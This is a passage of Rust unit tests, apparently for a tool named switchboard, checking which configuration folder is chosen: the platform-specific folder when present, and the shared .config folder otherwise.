        assert_eq!(loaded.problems.iter().any(|problem| problem.message.contains("your own")), !free, "{namespace}: {:?}", loaded.problems);
    }
}

#[test]
fn the_shared_folder_is_used_if_that_of_the_platform_is_missing() {
    let home = tempfile::tempdir().unwrap();
    let platform = home.path().join("Library/Application Support/switchboard");
    let folder = || super::load::home_config(Some(platform.clone()), Some(home.path()));
    assert_eq!(folder(), Some(platform.clone()));
    let shared = home.path().join(".config/switchboard");
    std::fs::create_dir_all(&shared).unwrap();
    assert_eq!(folder(), Some(shared));
    std::fs::create_dir_all(&platform).unwrap();
    assert_eq!(folder(), Some(platform.clone()));
}
